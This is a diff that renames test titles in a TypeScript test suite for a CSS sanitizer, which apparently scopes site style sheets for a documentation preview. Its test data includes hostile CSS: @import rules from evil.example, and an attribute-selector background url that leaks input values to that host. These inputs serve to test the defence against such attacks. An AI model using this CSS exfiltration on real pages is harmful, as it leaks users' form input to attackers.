@@ -29,12 +29,12 @@ function rules(css: string): string {
     .replace(/\s+/g, ' ');
 }
 
-test('every style sheet counts on every page, by path', () => {
+test('every style sheet applies to every page, by path', () => {
   const css = rules(site('.hero > a { color: blue }').styles.site);
   assert.equal(css, ' .app .first { color: red } .app .hero > a { color: blue }');
 });
 
-test('names reach the page and the documented parts, and nothing of the preview itself', () => {
+test('selectors reach the page and the documented parts, and nothing of the preview itself', () => {
   const is = (given: string, selector: string): void =>
     assert.ok(
       rules(site(`${given} { color: blue }`).styles.site).includes(`${selector} { color: blue }`),
@@ -64,7 +64,7 @@ test('names reach the page and the documented parts, and nothing of the preview 
   for (const own of ['.box', '.stand-in', '.view-strip', '.search', '.tip']) assert.ok(all.includes(own), own);
 });
 
-test('nothing loads from elsewhere, however it is written', () => {
+test('nothing is loaded from elsewhere, however it is written', () => {
   const css = site(`@import url("https://evil.example/a.css");
 @import "https://evil.example/b.css";
 input[value^="a"] { background: url(https://evil.example/a) }
@@ -91,7 +91,7 @@ Text
   assert.equal(own.match(/url\("[^"]*img\/a\.png"\)/g)?.length, 2, own);
 });
 
-test('widths are those of the page, variables of the preview’s names are the site’s own', () => {
+test('widths are those of the page; variables with the preview’s names belong to the site', () => {
   const css = site(
     '@media screen and (max-width: 768px) { .x { color: var(--text) } } :root { --text: red; --brand: blue }',
   );
@@ -101,7 +101,7 @@ test('widths are those of the page, variables of the preview’s names are the s
   assert.match(css.styles.site, /--brand: blue/);
 });
 
-test('a <style> of a page counts on it, within the same walls', () => {
+test('a <style> of a page applies to it, with the same restrictions', () => {
   const css = site(
     '.x { color: red }',
     '<style>{`\n  .page { color: blue; background: url(https://evil.example/x) }\n  .header { color: red }\n`}</style>\n\nText',
@@ -113,7 +113,7 @@ test('a <style> of a page counts on it, within the same walls', () => {
     assert.doesNotMatch(site(broken).styles.site, /<\//);
 });
 
-test('what carries a hook is there', () => {
+test('the documented hooks exist', () => {
   const known = new Set([...ownNames.classes, ...hooks.elements]);
   const folder = join(import.meta.dirname, '../../../server/core/render');
   const source = readdirSync(folder, { recursive: true, encoding: 'utf8' })
